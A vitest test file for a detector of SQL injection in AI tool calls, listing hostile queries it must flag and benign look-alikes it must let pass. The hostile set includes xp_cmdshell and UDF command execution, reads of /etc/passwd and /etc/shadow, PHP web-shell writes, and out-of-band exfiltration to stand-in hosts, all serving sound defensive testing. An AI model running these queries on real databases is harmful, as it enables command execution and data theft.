import { expect, it } from 'vitest';
import { createInspector } from '../../src/inspect/create-inspector.js';
import { QUERY_RULES } from '../../src/inspect/detectors/sql-injection/way-out.js';

const inspector = createInspector();

/** The rules of which a query is certain. */
function certain(sql: string): readonly string[] {
  const request = {
    surface: 'arguments',
    method: 'tools/call',
    tool: 'execute_sql',
    value: { sql },
    root: '/arguments',
    pathArguments: [],
  } as const;
  const found = inspector
    .inspect(request)
    .findings.filter(({ detector, confidence }) => detector === 'sql_injection' && confidence === 'high');
  return [...new Set(found.map(({ rule }) => rule.slice('sql_injection.'.length)))];
}

const LEAVING: readonly (readonly [what: string, rule: string, sql: string])[] = [
  ['a shell of SQL Server', 'procedure', "EXEC master..xp_cmdshell 'whoami'"],
  ['its registry', 'procedure', "EXEC xp_regdeletevalue 'HKEY_LOCAL_MACHINE', 'SOFTWARE\\X', 'Y'"],
  ['an object of the system', 'procedure', "DECLARE @s INT EXEC sp_oacreate 'wscript.shell', @s OUT"],
  ['these objects switched on', 'procedure', "EXEC sp_configure 'Ole Automation Procedures', 1"],
  [
    'Python that starts a program',
    'procedure',
    "EXEC sp_execute_external_script @language=N'Python', @script=N'import os; os.system(\"id\")'",
  ],
  ['an assembly in hexadecimal', 'procedure', 'CREATE ASSEMBLY a FROM 0x4D5A9000 WITH PERMISSION_SET = UNSAFE'],
  ['Java of Oracle', 'procedure', "SELECT DBMS_JAVA.RUNJAVA('oracle/aurora/util/Wrapper /bin/ls') FROM dual"],
  [
    'a job that is a shell',
    'procedure',
    "BEGIN DBMS_SCHEDULER.create_job(job_name => 'j', job_type => 'EXECUTABLE', job_action => '/bin/sh'); END;",
  ],
  ['a shell of the client', 'procedure', '\\! id'],
  ['a library for MySQL', 'native_code', "CREATE FUNCTION sys_exec RETURNS INT SONAME 'udf.so'"],
  ['its function', 'native_code', "SELECT sys_eval('id')"],
  ['a library of C', 'native_code', "CREATE FUNCTION system(cstring) RETURNS int AS '/lib/libc.so.6', 'system' LANGUAGE 'C' STRICT"],
  [
    'Python in PostgreSQL',
    'native_code',
    "CREATE FUNCTION f() RETURNS text AS $$ import os\nreturn os.popen('id').read() $$ LANGUAGE plpython3u",
  ],
  ['a library of Oracle', 'native_code', 'CREATE FUNCTION f(s varchar2) RETURN varchar2 AS LANGUAGE C LIBRARY lib NAME "f"'],
  ['an extension by its place', 'native_code', "SELECT load_extension('/tmp/x.so')"],
  ['Java of H2', 'native_code', "CREATE ALIAS E AS 'String e(String c) throws Exception { Runtime.getRuntime().exec(c); return c; }'"],
  ['a file that is written', 'file', "SELECT 'x' INTO OUTFILE '/tmp/a'"],
  ['a program', 'file', "COPY t FROM PROGRAM 'id'"],
  ['a file of the system', 'file', "COPY demo FROM '/etc/passwd'"],
  ['the same with OPENROWSET', 'file', "SELECT * FROM OPENROWSET(BULK N'C:/Windows/System32/drivers/etc/hosts', SINGLE_CLOB) AS c"],
  ['the same as a large object', 'file', "SELECT lo_import('/etc/passwd')"],
  ['the same with DuckDB', 'file', "SELECT * FROM read_text('/etc/shadow')"],
  ['a page that runs', 'file', "ATTACH DATABASE '/var/www/lol.php' AS lol"],
  ['a timer of the system', 'file', "ATTACH DATABASE '/etc/cron.d/pwn' AS cron"],
  ['a script', 'file', "COPY (SELECT 'x') TO '/tmp/nc.sh'"],
  ['a log that is a page', 'file', "SET GLOBAL general_log_file = '/var/www/html/shell.php'"],
  ['a share by its address', 'out_of_band', "RESTORE VERIFYONLY FROM DISK = '\\\\10.10.10.10\\file'"],
  ['a share over the web', 'out_of_band', "BULK INSERT #f FROM '\\\\files.example.com@SSL\\Path\\a.txt'"],
  ['a file of a name that is put together', 'out_of_band', "SELECT LOAD_FILE(CONCAT('\\\\\\\\', version(), '.x.example\\\\a'))"],
  [
    'a name that carries what was read',
    'out_of_band',
    'SELECT UTL_INADDR.get_host_address((SELECT banner FROM v$version WHERE rownum=1)) FROM dual',
  ],
  ['the same by HTTP', 'out_of_band', "SELECT UTL_HTTP.request('http://x.example/' || (SELECT user FROM dual)) FROM dual"],
  ['an address that carries it', 'out_of_band', "SELECT count(*) FROM url('http://x.example/'||(SELECT 1)||'/', 'CSV', 'c String')"],
  ['the same in Cypher', 'out_of_band', "LOAD CSV FROM 'http://x.example/?d=' + l AS y RETURN y"],
  ['a page that runs what it is sent', 'web_shell', 'INSERT INTO a (b) VALUES (\'<?php system($_GET["cmd"]); ?>\')'],
  ['a condition that waits', 'delay', "SELECT IF(SUBSTRING(@@version,1,1)='5', BENCHMARK(5000000,MD5('x')), 0)"],
  ['the same in PostgreSQL', 'delay', 'SELECT CASE WHEN (1=1) THEN pg_sleep(25) ELSE pg_sleep(0) END'],
  ['the same in a filter', 'delay', 'SELECT * FROM users WHERE id = (SELECT SLEEP(5))'],
  ['the same in SQL Server', 'delay', "if (ascii(substring(@s, 1, 1)) & 1) > 0 waitfor delay '0:0:5'"],
  ['files of the server for a role', 'privilege', 'GRANT pg_read_server_files TO ann'],
  ['the administrator', 'privilege', "EXECUTE AS LOGIN = 'sa'"],
  ['a program that the server starts', 'privilege', 'ALTER SYSTEM SET archive_command = \'bash -c "id"\''],
];

it.each(LEAVING)('finds %s (%s)', (_, rule, sql) => {
  expect(certain(sql)).toContain(rule);
});

it('has a case for each rule', () => {
  const untried = QUERY_RULES.filter(({ pattern, also }) => !LEAVING.some(([, , sql]) => pattern.test(sql) && also?.test(sql) !== false));
  expect(untried.map(({ pattern }) => pattern.source)).toEqual([]);
});

it.each([
  ['a backup to a share by name is what backups are', "BACKUP DATABASE a TO DISK = '\\\\backup01\\sql\\a.bak' WITH COMPRESSION"],
  ['a backup to a disk', "BACKUP DATABASE a TO DISK = 'D:\\Backups\\a.bak'"],
  ['a table from a share', "BULK INSERT sales FROM '\\\\files01\\in\\sales.csv' WITH (FORMAT = 'CSV')"],
  ['a table to a file', "COPY users TO '/tmp/users.csv' WITH CSV"],
  ['a table to object storage', "COPY sales TO 's3://bucket/sales.parquet' (FORMAT parquet)"],
  ['a second database', "ATTACH DATABASE 'archive.db' AS archive"],
  ['a file of data', "SELECT * FROM read_csv('data/orders.csv')"],
  ['a function of an extension', "CREATE FUNCTION f(int) RETURNS int AS 'MODULE_PATHNAME', 'f' LANGUAGE C STRICT"],
  ['a function that reckons', 'CREATE FUNCTION f(a int) RETURNS int AS $$ return a + 1 $$ LANGUAGE plpython3u'],
  ['an assembly of a file', "CREATE ASSEMBLY Geo FROM 'C:\\clr\\Geo.dll' WITH PERMISSION_SET = SAFE"],
  ['a model that learns', "EXEC sp_execute_external_script @language=N'R', @script=N'OutputDataSet <- predict(model, InputDataSet)'"],
  ['a step of a job', "EXEC msdb.dbo.sp_add_jobstep @job_name=N'j', @subsystem=N'TSQL', @command=N'EXEC dbo.cleanup'"],
  ['a job of the night', "BEGIN DBMS_SCHEDULER.create_job('J', 'PLSQL_BLOCK', 'BEGIN cleanup; END;'); END;"],
  ['a wait between two batches', "WHILE @n > 0 BEGIN EXEC dbo.purge; WAITFOR DELAY '00:00:05'; SET @n -= 1 END"],
  ['a wait of a test', 'SELECT pg_sleep(1)'],
  ['a measure of a function', "SELECT BENCHMARK(1000000, MD5('x'))"],
  ['whether a file is there', "EXEC master.dbo.xp_fileexist 'D:\\in\\a.csv'"],
  ['an address that is fixed', "LOAD CSV WITH HEADERS FROM 'https://data.example.com/a.csv' AS row CREATE (:A {id: row.id})"],
  ['a page about PHP', 'INSERT INTO posts (body) VALUES (\'<?php echo "Hello"; ?> prints a text\')'],
  ['a right to read', 'GRANT SELECT ON ALL TABLES IN SCHEMA public TO reporting'],
  ['another user in a test', "EXECUTE AS USER = 'reader'; SELECT * FROM a; REVERT"],
  ['where logs are kept', "SET GLOBAL general_log_file = '/var/log/mysql/general.log'"],
  ['an archive', "ALTER SYSTEM SET archive_command = 'cp %p /mnt/wal/%f'"],
  ['a headline that is printed', "PRINT '--- Part 2: checks ---';\nPRINT 'done'"],
])('lets %s pass', (_, sql) => {
  expect(certain(sql)).toEqual([]);
});
